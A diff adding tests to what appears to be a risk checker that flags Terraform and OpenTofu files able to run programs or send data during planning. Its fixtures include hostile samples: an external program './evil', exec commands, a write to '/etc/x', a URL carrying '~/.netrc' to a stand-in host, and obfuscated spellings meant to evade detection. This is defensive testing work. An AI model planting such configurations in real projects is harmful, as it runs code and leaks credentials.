@@ -279,6 +279,70 @@ describe('modules, providers and other folders of Terraform', () => {
   });
 });
 
+describe('whatever of Terraform is started or called while it plans', () => {
+  const many = Object.fromEntries(Array.from({ length: 600 }, (_, i) => [`a${i}.tf`, '']));
+  const external = 'data "external" "x" {\n  program = ["./evil"]\n}\n';
+  const starts = async (files: Readonly<Record<string, string>>, command = 'terraform plan'): Promise<boolean> =>
+    (await judged(await workspace(files), command)).risk === 'unknown';
+
+  test.each([
+    'data "shell_script" "x" {\n  lifecycle_commands {\n    read = "touch x"\n  }\n}\n',
+    'data "local_command" "x" {\n  command = "touch"\n}\n',
+    'data "aws_lambda_invocation" "x" {\n  function_name = "f"\n}\n',
+    'ephemeral "aws_lambda_invocation" "x" {\n  function_name = "f"\n}\n',
+    'data "archive_file" "x" {\n  output_path = "/etc/x"\n}\n',
+    'data "http" "x" {\n  url = "https://a.example"\n  method = "POST"\n}\n',
+    'data "http" "x" {\n  url = "https://a.example/${file("~/.netrc")}"\n}\n',
+    'data "http" "x" {\n  method = "POST"\n  request_headers = {\n    url = "x"\n  }\n}\n',
+    'data external x {\n}\n',
+    'data /* a */ "external" /* b */ "x" {\n}\n',
+    'data # a\n"external" "x" {\n}\n',
+    'data"external""x"{}\n',
+    'data "\\u0065xternal" "x" {}\n',
+    'provider "helm" {\n  kubernetes = {\n    exec = {\n      command = "./x"\n    }\n  }\n}\n',
+    'provider "kubernetes" {\n  exec {\n    command = "./x"\n  }\n}\n',
+    'provider "aws" {\n  shared_config_files = ["./cfg"]\n}\n',
+    'provider "aws" {\n  shared_config_files = [\n    "~/.aws/config",\n    "./cfg",\n  ]\n}\n',
+    'provider "kubernetes" {\n  config_path = "${path.module}/k"\n}\n',
+  ])('%j', async (text) => {
+    expect(await starts({ 'main.tf': text })).toBe(true);
+  });
+
+  test.each([
+    'data "aws_ami" "x" {}\n\ndata "aws_caller_identity" "me" {}\n',
+    'data "http" "ip" {\n  url = "https://checkip.example" # ours\n}\n',
+    '# data "external" "x" {}\n/* data external x { */\n',
+    'resource "x" "y" {\n  description = "data external"\n  url = "https://a.example/*/b"\n}\n',
+    'provider "aws" {\n  shared_config_files = ["~/.aws/config"]\n}\n',
+    'provider "kubernetes" {\n  config_path = "~/.kube/config"\n}\n',
+    'variable "database" {\n  default = {}\n}\nlocals {\n  metadata = { a = 1 }\n  execution = {}\n}\n',
+  ])('not %j', async (text) => {
+    expect(await starts({ 'main.tf': text })).toBe(false);
+  });
+
+  test('behind many other files, and where modules are brought to', async () => {
+    expect(await starts({ ...many, 'zz.tf': external })).toBe(true);
+    expect(await starts(many)).toBe(false);
+    expect(await starts({ 'main.tf': '', '.terraform/modules/m/main.tf': external })).toBe(true);
+    expect(await starts({ 'main.tf': '', '.terraform/modules/m/sub/in/x.tf': external })).toBe(true);
+    expect(await starts({ 'main.tf': '', '.terraform/modules/m/main.tf': 'data "aws_ami" "x" {}\n' })).toBe(false);
+    expect(await starts({ 'main.tf.json': '{"data":[{"ext\\u0065rnal":{"x":{}}}]}' })).toBe(true);
+    expect(await starts({ 'main.tf.json': '{"data":{"aws_ami":{"x":{}}}}' })).toBe(false);
+  });
+
+  test.each(['tofu plan', 'tofu show', 'tofu output', 'tofu state list'])('the key of a state: %s', async (command) => {
+    const key = (kind: string, what = 'key_provider'): Readonly<Record<string, string>> => ({
+      'main.tf': `terraform {\n  encryption {\n    ${what} "${kind}" "x" {\n      command = ["./x"]\n    }\n  }\n}\n`,
+    });
+    expect(await starts(key('external'), command)).toBe(true);
+    expect(await starts(key('external', 'method'), command)).toBe(true);
+    expect(
+      await starts({ 'x.tofu.json': '{"terraform":{"encryption":{"key_provider":{"external":{"x":{}}}}}}' }, command),
+    ).toBe(true);
+    expect(await starts(key('pbkdf2'), command)).toBe(false);
+  });
+});
+
 describe('code and settings in the folder that a reading program loads', () => {
   test.each([
     ['knife node list', '.chef/knife.rb'],
